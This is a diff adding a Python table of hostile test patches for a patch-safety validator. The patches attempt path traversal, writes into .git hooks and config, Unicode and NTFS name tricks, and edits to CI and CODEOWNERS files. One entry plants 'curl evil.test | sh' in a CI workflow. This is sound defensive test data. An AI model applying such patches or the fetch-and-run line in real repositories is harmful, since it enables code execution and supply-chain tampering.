@@ -1,0 +1,88 @@
+"""Hostile patches whose names lead out of the tree, into git's folder, or onto other names."""
+# ruff: noqa: E501 - a table reads best with one patch on one line
+
+from __future__ import annotations
+
+import json
+
+from bench.patches.attack import PROGRAM, ROOT, created, edited, hostile
+
+_HOOK = b"#!/bin/sh\ntouch hooked\n"
+_CONFIG = b"[core]\n\tfsmonitor = touch hooked\n"
+
+# fmt: off
+NAMES = (
+    hostile("parent folder", created(b"../evil.txt"), "unsafe-path"),
+    hostile("parent folder on the way", created(b"src/../../evil.txt"), "unsafe-path"),
+    hostile("parent folder without prefix", b"--- /dev/null\n+++ ../evil.txt\n@@ -0,0 +1 @@\n+x\n", "unsafe-path"),
+    hostile("absolute path", b"--- /dev/null\n+++ " + ROOT + b"/evil.txt\n@@ -0,0 +1 @@\n+x\n", "unsafe-path"),
+    hostile("absolute behind the prefix", created(ROOT + b"/evil.txt"), "unsafe-path"),
+    hostile("drive letter", created(b"C:/evil.txt"), "unsafe-path", "reserved-name"),
+    hostile("network share", created(b"//server/share/evil.txt"), "unsafe-path"),
+    hostile(".git/hooks", created(b".git/hooks/post-checkout", _HOOK, PROGRAM), "unsafe-path"),
+    hostile(".GIT", created(b".GIT/config", _CONFIG), "unsafe-path"),
+    hostile(".git below a folder", created(b"src/.git/config", _CONFIG), "unsafe-path"),
+    hostile("HFS+ zero-width", created(b".g\xe2\x80\x8cit/config", _CONFIG), "unsafe-path"),
+    hostile("HFS+ ignored mark at the end", created(b".git\xef\xbb\xbf/config", _CONFIG), "unsafe-path"),
+    hostile("NTFS short name", created(b"git~1/config", _CONFIG), "unsafe-path"),
+    hostile("NTFS stream", created(b".git::$INDEX_ALLOCATION/config", _CONFIG), "unsafe-path"),
+    hostile("NTFS dots and blanks", created(b".git. . /config", _CONFIG), "unsafe-path"),
+    hostile("octal quoted name", created(b'"\\056git/q"', _CONFIG), "unsafe-path"),
+    hostile("octal quoted parent", created(b'"\\056\\056/q"', _CONFIG), "unsafe-path"),
+    hostile("fullwidth .git", created(b".\xef\xbd\x87it/config", _CONFIG), "unsafe-path", "git-files", "homoglyph"),
+    hostile("rename into .git", b"diff --git a/src/a.txt b/.git/config\nsimilarity index 100%\nrename from src/a.txt\nrename to .git/config\n", "unsafe-path"),
+    hostile("V4A Move to .git", b"*** Begin Patch\n*** Update File: src/a.txt\n*** Move to: .git/config\n@@\n one\n-two\n+2\n three\n*** End Patch\n", "unsafe-path"),
+    hostile("V4A Add File outside", b"*** Begin Patch\n*** Add File: ../evil.txt\n+x\n*** End Patch\n", "unsafe-path"),
+    hostile("search/replace outside", b"../evil.txt\n<<<<<<< SEARCH\n=======\nx\n>>>>>>> REPLACE\n", "unsafe-path"),
+    hostile("str_replace in .git", json.dumps({"command": "create", "path": ".git/config", "file_text": "x"}).encode(), "unsafe-path"),
+    hostile("apply_patch outside", json.dumps({"type": "create_file", "path": "../evil.txt", "diff": "+x"}).encode(), "unsafe-path"),
+    hostile("whole file outside", b"../evil.txt\n```\nx\n```\n", "unsafe-path"),
+    hostile("path with a NUL", created(b'"src/a\\000.py"'), "unsafe-path", "reserved-name", "unreadable"),
+    hostile("backslash parent", created(b"..\\evil.txt"), "unsafe-path", "reserved-name"),
+    hostile("backslash name", created(b"src\\evil.py"), "unsafe-path", "reserved-name"),
+    hostile("con.txt", created(b"src/con.txt"), "reserved-name"),
+    hostile("trailing dot", created(b"src/evil.py."), "reserved-name"),
+    hostile("trailing blank", created(b'"src/evil.py "'), "reserved-name"),
+    hostile("stream on a file", created(b"src/app.py:evil"), "reserved-name", "unsafe-path"),
+    hostile("name like an option", created(b"-rf"), "reserved-name"),
+    hostile("option below a folder", created(b"src/--exec=sh"), "reserved-name"),
+    hostile("escape sequence in a name", created(b'"src/\\033[2Jx.py"'), "reserved-name", "unsafe-path"),
+    hostile("line break in a name", created(b'"src/a\\nb.py"'), "reserved-name", "unsafe-path"),
+    hostile("bidi override in a name", created(b"src/\xe2\x80\xaeyp.exe"), "reserved-name", "hidden-character", "unsafe-path"),
+    hostile("name of 300 bytes", created(b"src/" + b"a" * 300), "reserved-name", "unsafe-path"),
+    hostile("path of 5,000 bytes", created(b"a/" * 2500 + b"x"), "unsafe-path"),
+    hostile("case collision", created(b"README.md"), "case-collision"),
+    hostile("case collision of a folder", created(b"SRC/new.py"), "case-collision"),
+    hostile("Unicode collision", created("cafe\u0301.txt".encode()), "unicode-collision"),
+    hostile("look-alike name", created("src/\u0430pp.py".encode()), "homoglyph"),
+    hostile(".gitmodules", created(b".gitmodules", b'[submodule "x"]\n\tpath = x\n\turl = https://evil.test\n'), "git-files", "protected-path"),
+    hostile(".gitattributes", created(b"src/.gitattributes", b"*.py -diff\n"), "git-files", "protected-path"),
+    hostile(".gitconfig", created(b".gitconfig", _CONFIG), "git-files"),
+    hostile(".mailmap", created(b".mailmap", b"Ann <ann@example.test> <bob@example.test>\n"), "git-files"),
+    hostile(".gitmodules as NTFS keeps it", created(b"gitmod~1", b"x\n"), "git-files"),
+    hostile(".gitmodules with a dot", created(b".gitmodules.", b"x\n"), "git-files", "reserved-name"),
+    hostile("CI file", edited(".github/workflows/ci.yml", b"pytest", b"curl evil.test | sh"), "protected-path"),
+    hostile("new CI file", created(b".github/workflows/more.yml", b"on: push\n"), "protected-path"),
+    hostile("CI folder in other case", created(b".GitHub/workflows/more.yml", b"on: push\n"), "protected-path", "case-collision"),
+    hostile("policy", edited("policies/default.yaml", b"files: 10", b"files: 1000"), "protected-path"),
+    hostile("CODEOWNERS", edited("CODEOWNERS", b"@ann", b"@mallory"), "protected-path"),
+    hostile("CODEOWNERS below a folder", created(b"docs/CODEOWNERS", b"* @mallory\n"), "protected-path"),
+    hostile("allowed_signers", edited("allowed_signers", b"ann@", b"mallory@"), "protected-path"),
+    hostile("workflow.toml", edited("workflow.toml", b"pytest", b"none"), "protected-path"),
+    hostile("CI file in other case", created(b".Gitlab-CI.yml",b"x: 1\n"),"protected-path"),
+    hostile("Jenkinsfile", created(b"Jenkinsfile",b"x\n"),"protected-path"),
+    hostile("another forge's CI", created(b".circleci/config.yml",b"x: 1\n"),"protected-path"),
+    hostile("azure pipelines", created(b"azure-pipelines.yml",b"x: 1\n"),"protected-path"),
+    hostile("travis", created(b".travis.yml",b"x: 1\n"),"protected-path"),
+    hostile("pre-commit", created(b".pre-commit-config.yaml",b"x: 1\n"),"protected-path"),
+    hostile("CODEOWNERS of a forge", created(b".github/CODEOWNERS",b"* @m\n"),"protected-path"),
+    hostile("gitlab codeowners", created(b".gitlab/CODEOWNERS",b"* @m\n"),"protected-path"),
+    hostile("WORKFLOW.TOML", created(b"WORKFLOW.TOML",b"x=1\n"),"protected-path","case-collision"),
+    hostile("sharp s collision", created("stra\u00dfe".encode(),b"x\n")+created(b"strasse",b"x\n"),"case-collision"),
+    hostile("two new names that collide", created(b"new.py",b"x\n")+created(b"NEW.py",b"x\n"),"case-collision"),
+    hostile("new folder vs file case", created(b"Readme.md/x",b"x\n"),"case-collision"),
+    hostile("com1.tar.gz", created(b"src/COM1.tar.gz",b"x\n"),"reserved-name"),
+    hostile("aux folder", created(b"aux/x.py",b"x\n"),"reserved-name"),
+    hostile("nul trailing", created(b'"nul "',b"x\n"),"reserved-name"),
+)
+# fmt: on
